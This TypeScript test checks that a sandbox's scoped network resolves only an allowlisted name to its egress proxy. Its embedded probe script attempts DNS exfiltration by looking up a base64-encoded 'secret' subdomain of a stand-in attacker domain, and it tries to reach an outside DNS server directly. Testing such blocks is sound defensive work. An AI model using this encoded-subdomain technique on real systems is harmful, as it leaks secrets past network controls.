/** Names in a scoped network, in each tier: allowed ones lead to the proxy, and no other name carries anything out. */

import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { once } from "node:events";
import { describe, it } from "node:test";
import { createEgress, openSandboxExit, parseAllowedHost } from "@toolcrib/egress";
import { createProcessLauncher, type SpawnRequest } from "@toolcrib/process";
import { exitPort } from "@toolcrib/sandbox";
import { makeTemporaryDirectory } from "@toolcrib/testing";
import { createSandboxes, strictPolicy, tierIds, unavailableReason } from "./sandbox-harness.ts";

/** Looks names up in all ways that programs have, and prints the answers. */
const script = `
  const dns = require("node:dns"), dgram = require("node:dgram"), net = require("node:net");
  const by = (resolver, name, type) => resolver.resolve(name, type).then((found) => found.map(String), (error) => error.code);
  const connect = (port, host) => new Promise((resolve) =>
    net.connect(port, host).on("connect", () => resolve("connected")).on("error", (error) => resolve(error.code)));
  const send = (port, host) => new Promise((resolve) => {
    const socket = dgram.createSocket("udp4").on("error", (error) => resolve(error.code));
    socket.connect(port, host, (error) => resolve(error?.code ?? "sent"));
  });
  (async () => {
    const { promises } = dns;
    const own = new promises.Resolver(), outside = new promises.Resolver({ timeout: 500, tries: 1 });
    outside.setServers(["198.51.100.53"]);
    const answers = {
      servers: own.getServers(),
      allowed: await by(own, "api.allowed.example", "A"),
      again: await by(own, "API.Allowed.example", "A"),
      system: await promises.lookup("api.allowed.example").then(({ address }) => address, (error) => error.code),
      others: [],
      outside: await by(outside, "c2VjcmV0.evil.example", "A"),
      direct: [await connect(53, "198.51.100.53"), await send(53, "198.51.100.53")],
      address: await connect(443, "api.allowed.example"),
      loopback: await promises.lookup("localhost", 4).then(({ address }) => address),
    };
    for (const type of ["A", "AAAA", "TXT", "MX", "CNAME", "SRV", "NS"]) answers.others.push(await by(own, "c2VjcmV0.evil.example", type));
    answers.exists = await by(own, "api.allowed.example", "TXT");
    console.log(JSON.stringify(answers));
    process.exit();
  })();`;

for (const tier of tierIds) {
  const reason = await unavailableReason(tier);
  const skip = reason === undefined ? false : `${tier} cannot be tested here: ${reason}`;

  describe(`names in a scoped network of ${tier}`, { skip }, () => {
    it("lead to the proxy where they are allowed, and do not exist otherwise", async (context) => {
      await using directory = await makeTemporaryDirectory();
      const denied: string[] = [];
      const events = { onEvent: ({ host }: { readonly host: string }) => void denied.push(host) };
      await using egress = createEgress(
        {},
        { directory: directory.join("egress"), now: Date.now, randomBytes, ...events },
      );
      const allowed = parseAllowedHost("api.allowed.example");
      assert.ok(typeof allowed !== "string");
      const source = { id: "names", allow: [allowed], credentials: [] };
      await using exit = await openSandboxExit(egress, source, exitPort);
      await using launcher = createProcessLauncher({
        env: { PATH: "/usr/bin:/bin" },
        now: Date.now,
        logger: { debug() {}, info() {}, warn() {}, error() {} },
        randomBytes,
      });
      const handed: string[] = [];
      const policy = strictPolicy({ network: "scoped", files: exit.files, listeners: exit.places });
      const spec = {
        command: process.execPath,
        args: ["-e", script],
        env: {},
        label: "names",
        cwd: "/",
        contain: async (request: SpawnRequest) => ({
          ...(await createSandboxes(tier).prepare(request, policy)),
          takeListener: (...args: Parameters<typeof exit.takeListener>) => {
            handed.push(`${args[1].protocol} ${args[1].port}`);
            exit.takeListener(...args);
          },
        }),
      };
      await using launched = await launcher.launch(spec, { signal: AbortSignal.timeout(60_000) });
      const [printed] = await Promise.race([
        once(launched.stdout, "data"),
        launched.exited.then(({ description }) => [description]),
      ]);
      if (!handed.includes("udp 53")) {
        context.skip("this machine keeps port 53 from the network of a sandbox, so no name is answered");
        return;
      }
      const answers = JSON.parse(String(printed));
      assert.deepEqual(answers.servers, ["127.0.0.1"]);
      assert.match(String(answers.allowed), /^198\.18\.\d+\.\d+$/);
      assert.deepEqual(answers.again, answers.allowed);
      assert.equal(answers.system, answers.allowed[0]);
      assert.deepEqual(answers.others, Array(7).fill("ENOTFOUND"));
      assert.equal(answers.exists, "ENODATA");
      assert.match(answers.outside, /ECONNREFUSED|ETIMEOUT|ENETUNREACH/);
      for (const direct of answers.direct) assert.match(direct, /ENETUNREACH|EHOSTUNREACH/);
      assert.equal(answers.address, "connected");
      assert.equal(answers.loopback, "127.0.0.1");
      // The first lookup of a name that is not allowed is reported, and the others are not.
      assert.deepEqual(
        denied.filter((host) => host.includes("evil")),
        ["c2vjcmv0.evil.example"],
      );
    });
  });
}
